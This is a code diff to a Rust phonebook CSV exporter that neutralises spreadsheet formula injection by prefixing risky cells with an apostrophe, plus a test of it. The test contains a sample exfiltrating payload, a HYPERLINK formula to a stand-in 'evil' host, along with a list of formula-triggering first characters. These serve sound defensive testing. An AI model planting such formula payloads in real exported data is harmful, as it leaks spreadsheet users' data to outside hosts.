@@ -1,5 +1,11 @@
 //! CSV per RFC 4180: header `name,number`, CRLF line ends, a field quoted when it holds a
 //! comma, a double quote, CR or LF (quotes doubled inside). UTF-8 without a byte order mark.
+//!
+//! Names are chosen by strangers on the sign-up page, and people open this file in
+//! spreadsheets, which run a cell that starts with `=`, `+`, `-` or `@` as a formula
+//! (`=HYPERLINK(...)`, DDE). Such a cell, and one starting with a tab or CR (which some
+//! spreadsheets strip before looking), gets a leading `'`, which spreadsheets show as text
+//! and hide (OWASP "CSV Injection"). An international number `+49...` gets one too.
 
 use super::Phonebook;
 
@@ -15,7 +21,17 @@ pub fn render(book: &Phonebook) -> String {
     out
 }
 
+/// First characters that make a spreadsheet evaluate a cell.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 fn push_field(out: &mut String, field: &str) {
+    let neutral;
+    let field = if field.starts_with(FORMULA_STARTS) {
+        neutral = format!("'{field}");
+        neutral.as_str()
+    } else {
+        field
+    };
     if field.contains([',', '"', '\r', '\n']) {
         out.push('"');
         out.push_str(&field.replace('"', "\"\""));
@@ -55,6 +71,55 @@ mod tests {
             assert_eq!(record.len(), 2);
             assert_eq!(&record[0], entry.name);
             assert_eq!(&record[1], entry.number);
+        }
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_start_with_a_quote() {
+        let book = Phonebook::new([
+            Entry::extension("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "4711"),
+            Entry::extension("+SUM(1)", "4712"),
+            Entry::extension("-2+3", "4713"),
+            Entry::extension("@cmd", "4714"),
+            Entry::extension("\tTab", "4715"),
+            Entry::extension("\r=CR", "4716"),
+            Entry::extension("Plain = Name", "4717"),
+            Entry::extension("Intl", "+4930123"),
+        ]);
+        let out = render(&book);
+        let mut reader = ::csv::Reader::from_reader(out.as_bytes());
+        let cells: Vec<(String, String)> = reader
+            .records()
+            .map(|r| {
+                let r = r.unwrap();
+                (r[0].to_string(), r[1].to_string())
+            })
+            .collect();
+        let name_of = |number: &str| {
+            cells
+                .iter()
+                .find(|(_, n)| n == number)
+                .map(|(name, _)| name.clone())
+                .unwrap()
+        };
+        assert_eq!(name_of("4711"), "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")");
+        assert_eq!(name_of("4712"), "'+SUM(1)");
+        assert_eq!(name_of("4713"), "'-2+3");
+        assert_eq!(name_of("4714"), "'@cmd");
+        assert_eq!(name_of("4715"), "'\tTab");
+        assert_eq!(name_of("4716"), "'\r=CR");
+        assert_eq!(
+            name_of("4717"),
+            "Plain = Name",
+            "only the first character matters"
+        );
+        assert!(cells
+            .iter()
+            .any(|(n, num)| n == "Intl" && num == "'+4930123"));
+        for (name, number) in &cells {
+            for cell in [name, number] {
+                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
+            }
         }
     }
 
